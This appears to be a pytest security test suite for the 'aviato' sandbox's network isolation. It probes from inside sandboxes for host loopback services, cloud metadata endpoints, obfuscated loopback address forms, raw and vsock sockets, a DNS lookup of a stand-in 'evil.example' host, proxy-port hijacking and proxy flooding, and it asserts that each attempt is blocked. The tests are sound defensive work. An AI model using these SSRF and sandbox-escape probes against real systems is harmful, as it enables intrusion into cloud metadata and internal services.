"""Attempts to reach what the network mode does not give: the machine's services, metadata, names, raw sockets."""

from __future__ import annotations

import contextlib
import json
import re
import socket
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from aviato import NetworkOptions, Sandbox

pytestmark = pytest.mark.attack

ASK = """
import json, socket, sys
said = {}
for host in sys.argv[2:]:
    for form in ("CONNECT {0}:{1} HTTP/1.1", "GET http://{0}:{1}/ HTTP/1.1"):
        with socket.create_connection(("127.0.0.1", 3128), 20) as proxy:
            proxy.sendall((form.format(host, sys.argv[1]) + "\\r\\nHost: a.example\\r\\n\\r\\n").encode())
            said[f"{form[:3]} {host}"] = proxy.recv(4096).split()[1].decode()
print(json.dumps(said))
"""
DIRECT = """
import errno, json, socket, sys
port, said = int(sys.argv[1]), {}
def attempt(name, action):
    try:
        said[name] = action() and "reached"
    except OSError as error:
        said[name] = errno.errorcode.get(error.errno) or type(error).__name__
def datagram(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.sendto(bytes.fromhex("123401000001000000000000") + b"\\7example\\3org\\0\\0\\1\\0\\1", address)
    return True
for host in sys.argv[2:]:
    attempt(f"tcp {host}", lambda: socket.create_connection((host, port), 3))
    attempt(f"udp {host}", lambda: datagram((host, 53)))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW, 3))
attempt("broadcast", lambda: datagram(("255.255.255.255", 53)))
attempt("multicast", lambda: datagram(("224.0.0.251", 5353)))
attempt("name", lambda: socket.getaddrinfo("secret-data.evil.example", 80))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, port)) is None)
print(json.dumps(said))
"""
MACHINE = [
    "127.0.0.1",
    "localhost",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "127.0.0.2",
    "0.0.0.0",
    "[::]",
    "localhost.",
]
ODD = [
    "127.1",
    "0x7f000001",
    "2130706433",
    "0177.0.0.1",
    "0x7f.0.0.1",
    "127.0.0.1%00",
    "a@127.0.0.1",
    "[::1%25lo]",
    "①27.0.0.1",
]
METADATA = ["169.254.169.254", "[::ffff:169.254.169.254]", "[fd00:ec2::254]", "100.100.100.200", "168.63.129.16", "192.0.0.192"]


class Service:
    """A service of the machine's loopback that nobody inside may reach."""

    def __init__(self) -> None:
        self.visits = 0
        self.listener = socket.create_server(("", 0), family=socket.AF_INET6, dualstack_ipv6=True)
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True, name="ThreadPoolExecutor-service").start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            self.visits += 1
            with connection, contextlib.suppress(OSError):
                connection.recv(1 << 16)
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nsecret")

    def end(self) -> None:
        self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()


@pytest.fixture
def service() -> Iterator[Service]:
    made = Service()
    yield made
    made.end()


def ask(sandbox: Sandbox, source: str, *arguments: Any) -> dict[str, str]:
    result = sandbox.exec(["python3", "-c", source, *map(str, arguments)]).result()
    assert result.returncode == 0, result.stderr
    said: dict[str, str] = json.loads(result.stdout)
    return said


def own_addresses() -> list[str]:
    """The machine's address, if it has one beside the loopback."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return []
        return [probe.getsockname()[0]]


@pytest.mark.parametrize("mode", ["internet", "listed"])
def test_the_machine_and_its_metadata(served: Any, service: Service, mode: str) -> None:
    """Listing a host does not make its address allowed."""
    named = [*MACHINE, *METADATA, *own_addresses()]
    options = NetworkOptions(egress_mode="internet" if mode == "internet" else named)
    with Sandbox(network=options) as sandbox, Sandbox() as neighbour:
        said = ask(sandbox, ASK, service.port, *named)
        assert {host: code for host, code in said.items() if code != "403"} == {}
        said = ask(sandbox, ASK, service.port, *ODD)
        assert {host: code for host, code in said.items() if code != "400"} == {}
        assert service.visits == 0
        assert neighbour.exec(["true"]).result().returncode == 0


def test_the_control(make_server: Callable[..., Any], service: Service, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where the operator allows these addresses, the same program reaches the service."""
    monkeypatch.setenv("AVIATO_BASE_URL", make_server(egress_allow_cidr="127.0.0.0/8").url)
    with Sandbox(network=NetworkOptions(egress_mode="internet")) as sandbox:
        said = ask(sandbox, ASK, service.port, "127.0.0.1", "localhost", "[::ffff:127.0.0.1]", "[::1]")
        assert [code for host, code in said.items() if "[::1]" not in host] == ["200"] * 6 and said["GET [::1]"] == "403"
        assert service.visits == 6


@pytest.mark.parametrize("opened", [False, True])
def test_the_servers_own_api(
    make_server: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, opened: bool
) -> None:
    """By every address of its TCP port; the control is a server whose operator opened them."""
    addresses = ["127.0.0.1", *own_addresses()]
    (tmp_path / "keys").write_text("of-nobody-inside\n")
    flags = {"egress_allow_cidr": ",".join(addresses)} if opened else {}
    running = make_server(host="0.0.0.0", port=0, api_key_file=tmp_path / "keys", **flags)
    deadline = time.monotonic() + 20
    while (found := re.search(r"AVIATO_BASE_URL=http://\S+:(\d+)\n", running.log.read_text())) is None:
        assert time.monotonic() < deadline, running.log.read_text()
        time.sleep(0.01)
    monkeypatch.setenv("AVIATO_BASE_URL", running.url)
    with Sandbox(network=NetworkOptions(egress_mode="internet")) as sandbox:
        said = ask(sandbox, ASK, found[1], *addresses)
        # Who gets there without a key is told so by the server.
        tunnels = {said[f"CON {address}"] for address in addresses}
        assert tunnels == {"200" if opened else "403"}
        assert ({said[f"GET {address}"] for address in addresses} == {"403"}) is not opened


@pytest.mark.parametrize("mode", ["none", "internet"])
def test_past_the_proxy(served: Any, service: Service, mode: Any) -> None:
    """No socket of the inside leads anywhere but inside, and no name is looked up there."""
    with Sandbox(network=NetworkOptions(egress_mode=mode)) as sandbox:
        said = ask(sandbox, DIRECT, service.port, "127.0.0.1", "8.8.8.8", "169.254.169.254", *own_addresses())
        assert said.pop("udp 127.0.0.1") == "reached", "its own loopback is there"
        assert [what for what, how in said.items() if how == "reached"] == []
        assert said["tcp 8.8.8.8"] == said["udp 8.8.8.8"] == said["broadcast"] == "ENETUNREACH"
        assert said["tcp 127.0.0.1"] == "ECONNREFUSED" and service.visits == 0


def test_the_proxy_of_one_sandbox_is_no_others(served: Any) -> None:
    with Sandbox(network=NetworkOptions(egress_mode="internet")), Sandbox() as other:
        said = ask(other, DIRECT, 3128, "127.0.0.1")
        assert said["tcp 127.0.0.1"] == "ECONNREFUSED"


def test_taking_the_place_of_the_proxy(served: Any) -> None:
    """A program cannot listen where the others of its sandbox expect it."""
    source = """
import json, socket
said = {}
ways = {"plain": ("127.0.0.1",), "reuse": ("127.0.0.1", 2), "both": ("127.0.0.1", 2, 15), "any": ("0.0.0.0", 2, 15)}
for name, (host, *options) in ways.items():
    with socket.socket() as sock:
        try:
            for option in options: sock.setsockopt(socket.SOL_SOCKET, option, 1)
            sock.bind((host, 3128))
            sock.listen()
            said[name] = "took it"
        except OSError as error:
            said[name] = error.errno
print(json.dumps(said))
"""
    with Sandbox(network=NetworkOptions(egress_mode="internet")) as sandbox:
        assert set(ask(sandbox, source).values()) == {98}


def test_floods_and_nonsense_cost_nobody_else_anything(served: Any) -> None:
    source = """
import json, os, socket, threading, time
kinds = [os.urandom(70000), b"GET " * 20000, b"CONNECT a.example:443 HTTP/1.1\\r\\n" * 2000, b"\\0"]
def one(n):
    for _ in range(20):
        with socket.create_connection(("127.0.0.1", 3128), 20) as proxy:
            try:
                proxy.sendall(kinds[n % 4])
            except OSError:
                pass
held = []
try:
    for _ in range(1000):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex(("127.0.0.1", 3128))
        held.append(sock)
        if len(held) == 100:
            threads = [threading.Thread(target=one, args=(n,)) for n in range(8)]
            for thread in threads: thread.start()
            for thread in threads: thread.join()
except OSError:
    pass
print(json.dumps({"held": len(held)}), flush=True)
time.sleep(60)
"""
    with (
        Sandbox(network=NetworkOptions(egress_mode="internet")) as sandbox,
        Sandbox(network=NetworkOptions(egress_mode="internet")) as other,
    ):
        flood = sandbox.exec(["python3", "-c", source])
        assert "held" in next(iter(flood.stdout))
        assert set(ask(other, ASK, 80, "127.0.0.1").values()) == {"403"}
        assert sandbox.exec(["echo", "lives"]).result().stdout == "lives\n"
        flood.cancel()
